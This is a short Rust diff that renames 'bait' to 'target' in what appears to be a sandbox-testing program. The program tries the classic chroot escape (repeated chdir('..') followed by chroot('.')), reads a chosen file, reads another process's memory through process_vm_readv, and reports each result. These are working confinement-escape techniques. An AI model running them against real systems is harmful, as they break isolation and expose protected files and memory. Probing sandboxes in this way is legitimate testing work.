@@ -95,7 +95,7 @@ fn enter_by_pivot_root(cell: &CStr) -> Option<()> {
 /// The classic escape from chroot(2): move the root deeper, and keep a directory that is no longer
 /// below it, from which `..` leads up to the real root. Each step is tried even if the previous one
 /// failed.
-fn walk_out(bait: &CStr) {
+fn walk_out(target: &CStr) {
     const O_RDONLY_DIRECTORY: usize = 0o200_000;
     let here = call(number::OPEN, [address(c"."), O_RDONLY_DIRECTORY, 0, 0, 0, 0]);
     told(&[b"open(\".\")"], here);
@@ -108,17 +108,17 @@ fn walk_out(bait: &CStr) {
     }
     let top = call(number::CHROOT, [address(c"."), 0, 0, 0, 0, 0]);
     told(&[b"chdir(\"..\") x 64, chroot(\".\")"], top);
-    let file = call(number::OPEN, [address(bait), 0, 0, 0, 0, 0]);
-    if told_if_failed(b"read(bait)", file).is_some() {
-        let mut text = [0; BAIT_BYTES];
+    let file = call(number::OPEN, [address(target), 0, 0, 0, 0, 0]);
+    if told_if_failed(b"read(target)", file).is_some() {
+        let mut text = [0; TARGET_BYTES];
         let to = text.as_mut_ptr() as usize;
-        let count = call(number::READ, [file as usize, to, BAIT_BYTES, 0, 0, 0]);
-        told_text(b"read(bait)", &text, count);
+        let count = call(number::READ, [file as usize, to, TARGET_BYTES, 0, 0, 0]);
+        told_text(b"read(target)", &text, count);
     }
 }
 
 /// The maximum length of the file to read.
-const BAIT_BYTES: usize = 16;
+const TARGET_BYTES: usize = 16;
 
 fn kill(pid: usize) {
     const SIGKILL: usize = 9;
@@ -129,9 +129,9 @@ fn kill(pid: usize) {
 }
 
 fn read_memory(pid: usize, from: usize) {
-    let mut text = [0; BAIT_BYTES];
-    let local = [text.as_mut_ptr() as usize, BAIT_BYTES];
-    let remote = [from, BAIT_BYTES];
+    let mut text = [0; TARGET_BYTES];
+    let local = [text.as_mut_ptr() as usize, TARGET_BYTES];
+    let remote = [from, TARGET_BYTES];
     let (local, remote) = (&raw const local as usize, &raw const remote as usize);
     let count = call(number::PROCESS_VM_READV, [pid, local, 1, remote, 1, 0]);
     told_text(b"process_vm_readv", &text, count);
